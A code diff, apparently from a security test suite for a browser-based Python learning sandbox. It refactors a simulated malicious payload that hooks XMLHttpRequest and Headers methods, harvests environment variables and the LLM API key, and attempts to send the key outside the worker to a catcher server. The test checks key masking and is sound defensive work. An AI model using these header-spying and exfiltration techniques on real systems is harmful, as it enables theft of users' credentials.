@@ -1,6 +1,7 @@
 """Python that came from a link and wants the learner's key: it gathers every string it can reach
 (os.environ, the `js` globals, looplab.http, the worker's transport module, the page's answers),
-puts spies on the built-ins the worker could use with the key, then tries every way out of the
+puts spies on the built-ins the worker could use with the key (XHR's setRequestHeader, and every
+way of reading a Headers object, its iterator first), then tries every way out of the
 worker to a catcher server on another port. The lesson's own code follows it (`ATTACK % {...}`),
 then `REPORT`.
 
@@ -8,7 +9,44 @@ It prints what it saw reversed (`SEEN:`), so that the worker's masking of the ke
 key Python found, and what became of each attempt (`TRIED:`); test_key.py reads both.
 """
 
-ATTACK = r"""
+# Every entry of a Headers object, noted, read with the real `entries` (taken before any hook).
+# After `note` and `js` are defined.
+HEADER_READER = r"""
+real_entries = js.Headers.prototype.entries
+
+def read_headers(this):
+    try:
+        entries = js.Reflect.apply(real_entries, this, js.Array.new())
+        for step in iter(entries.next, None):
+            if step.done:
+                break
+            note(str(step.value[0]) + ": " + str(step.value[1]))
+    except Exception:
+        pass
+"""
+
+# Spies on every way a Headers object is read or written, each reading all its entries (fetch reads
+# a Headers it is given through Headers.prototype[Symbol.iterator]: issue 36, way 1). After `note`,
+# `js`, `to_js` and `create_proxy` are defined.
+HEADER_SPIES = (
+    HEADER_READER
+    + r"""
+def spy_headers(key):
+    real = js.Reflect.get(js.Headers.prototype, key)
+    def watch(this, *args):
+        read_headers(this)
+        for arg in args:
+            note(str(arg))
+        return js.Reflect.apply(real, this, to_js(list(args)))
+    js.Reflect.set(js.Headers.prototype, key, create_proxy(watch, capture_this=True))
+
+for key in (js.Symbol.iterator, "entries", "forEach", "get", "has", "keys", "values", "set", "append", "getSetCookie"):
+    spy_headers(key)
+"""
+)
+
+ATTACK = (
+    r"""
 import asyncio, json, os
 import js, pyodide.http
 from pyodide.ffi import create_proxy, to_js
@@ -41,7 +79,10 @@ def spy(owner, name):
     setattr(owner, name, create_proxy(watch, capture_this=True))
 
 spy(js.XMLHttpRequest.prototype, "setRequestHeader")
-spy(js.Headers.prototype, "set")
+
+"""
+    + HEADER_SPIES
+    + r"""
 
 # everything within reach
 for value in os.environ.values():
@@ -112,6 +153,7 @@ attempt("private files", lambda: js.navigator.storage.getDirectory())  # where t
 origin = "/".join(os.environ.get("LLM_BASE_URL", "http://x/v1").split("/")[:3])
 attempt("outside the prefix", lambda: looplab.http.get_json(origin + "/outside", {"Authorization": "Bearer " + os.environ.get("LLM_API_KEY", "")})[0])
 """
+)
 
 # after the lesson's own code (its live model ran under the spies)
 REPORT = r"""
@@ -176,30 +218,9 @@ HEADERS = (
 import looplab_transport
 from pyodide.ffi import can_run_sync, run_sync
 
-real_entries = js.Headers.prototype.entries
-
-def read_all(this):
-    try:
-        entries = js.Reflect.apply(real_entries, this, js.Array.new())
-        while True:
-            step = entries.next()
-            if step.done:
-                break
-            note(str(step.value[0]) + ": " + str(step.value[1]))
-    except Exception:
-        pass
-
-def spy_headers(key):
-    real = js.Reflect.get(js.Headers.prototype, key)
-    def watch(this, *args):
-        read_all(this)
-        for arg in args:
-            note(str(arg))
-        return js.Reflect.apply(real, this, to_js(list(args)))
-    js.Reflect.set(js.Headers.prototype, key, create_proxy(watch, capture_this=True))
-
-for key in [js.Symbol.iterator, "entries", "forEach", "get", "has", "keys", "values", "set", "append", "getSetCookie"]:
-    spy_headers(key)
+"""
+    + HEADER_SPIES
+    + r"""
 
 if os.environ.get("LOOPLAB_MODEL") == "live" and can_run_sync():
     for call in (looplab_transport.send_async, looplab_transport.open_stream):
@@ -319,20 +340,17 @@ import looplab.http, looplab.sse, looplab_transport
 import looplab.models.chat, looplab.models.endpoint, looplab.models.limits, looplab.models.live
 import looplab.models.prompted, looplab.models.responses, looplab.models.stream
 busy = [False]
-entries_of = js.Headers.prototype.entries
 kind_of = js.Object.prototype.toString
-
+"""
+    + HEADER_READER
+    + r"""
 def look(value):
     if isinstance(value, str):
         note(value)
     elif value is not None and not isinstance(value, (int, float, bool)):
         try:
-            if kind_of.call(value) == "[object Headers]":  # every entry of a Headers object
-                entries = js.Reflect.apply(entries_of, value, js.Array.new())
-                for step in iter(entries.next, None):
-                    if step.done:
-                        break
-                    note(str(step.value[0]) + ": " + str(step.value[1]))
+            if kind_of.call(value) == "[object Headers]":
+                read_headers(value)
         except Exception:
             pass
 
